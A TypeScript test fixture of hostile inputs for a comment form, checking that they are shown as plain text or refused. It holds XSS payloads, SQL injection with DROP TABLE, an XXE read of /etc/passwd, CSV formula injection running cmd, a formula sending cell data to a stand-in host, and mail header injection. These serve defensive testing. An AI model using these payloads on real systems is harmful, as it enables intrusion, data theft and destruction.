/**
 * What hostile, careless and unlucky people type. `taken` is text like any other: it must come out as the text it is, everywhere.
 * `refused` is told to whoever sent it, and not kept.
 */

/** Nothing may ever ask this host for anything. */
export const trapHost = 'piege.example';

export const taken: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'closing tags': '</textarea></title></style></script></template><script>alert(1)</script>',
  'event handler': `<img src="https://${trapHost}/a.png" onerror="alert(1)"><svg onload=alert(1)>`,
  'attribute, double quotes': '" autofocus onfocus="alert(1)" x="',
  'attribute, single quotes': "' onmouseover='alert(1)' x='",
  'javascript link': '[ici](javascript:alert(1)) <javascript:alert(1)> [ici](JaVaScRiPt&colon;alert(1))',
  'data link': '[ici](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'markdown image': `![vue](https://${trapHost}/vue.png) ![vue][v]\n\n[v]: https://${trapHost}/v.png`,
  'markdown HTML': `<iframe src="https://${trapHost}/"></iframe>\n\n<a href="javascript:alert(1)">ici</a>`,
  'style sheet': `<style>@import url(https://${trapHost}/a.css)</style><link rel=stylesheet href=//${trapHost}/b.css>`,
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{7*7} <%= 7*7 %> {t} {author} %s %n',
  SQL: `'); DROP TABLE comments_comments; -- " OR 1=1 /* ; SELECT pg_sleep(5)`,
  'XML entities': '<!ENTITY x SYSTEM "file:///etc/passwd"> &x; &amp; &#x3c;script&#x3e; ]]> <![CDATA[ <?php ?> -->',
  'JSON in HTML': '</script><!--<script>","x":1}] \u2028\u2029 \\u003cscript\\u003e \\',
  'formula =': `=HYPERLINK("https://${trapHost}/?"&A1;"ici")`,
  'formula +': "+cmd|' /C calc'!A0",
  'formula -': '-2+3+cmd|A0',
  'formula @': '@SUM(1+1)*cmd|A0',
  'separators of CSV': 'a;b,c|d"e""f',
  'right to left': 'שלום עולם — مرحبا بالعالم',
  emoji: '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ✊🏿 1️⃣',
  'long word': 'Donaudampfschifffahrtsgesellschaft'.repeat(2),
  'look-alike domain': 'аgoria.be',
  'path and host': `//${trapHost}/%2e%2e/..\\..\\etc/passwd`,
};

export const refused: Readonly<Record<string, string>> = {
  'letters that turn the reading direction': 'Merci\u202Eexe.gpj',
  'isolates that never end': 'Merci\u2067 à tous',
  'null byte': 'Merci\0',
  'terminal colours': 'Merci\u001B[31m',
  zalgo: `M${'\u0300\u0301\u0302\u0303'.repeat(5)}erci`,
  'half of an emoji': 'Merci \uD83D',
  'a line of 100 kB': 'm'.repeat(100_000),
};

/** What no single line may hold: it would begin another header, or another row. */
export const severalLines: Readonly<Record<string, string>> = {
  'header injection': `Une lectrice\r\nBcc: tous@${trapHost}`,
  'a line feed': `Une lectrice\nSubject: Achetez`,
  'a carriage return': 'Une lectrice\rX: y',
  'a tab': 'Une\tlectrice',
};

export const badAddresses: readonly string[] = [
  `lectrice@exemple.example\r\nBcc: tous@${trapHost}`,
  `lectrice@exemple.example, tous@${trapHost}`,
  `lectrice@exemple.example;tous@${trapHost}`,
  '"<script>alert(1)</script>"@exemple.example',
  'Lectrice <lectrice@exemple.example>',
  'lectrice@exemple',
  'lectrice@аgoria.be',
  'lectrice@[127.0.0.1]',
  `${'a'.repeat(300)}@exemple.example`,
];

export const badLinks: readonly string[] = [
  'javascript:alert(1)',
  ' java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'https://exemple.example"onmouseover="alert(1)',
  'https://a b.example',
];
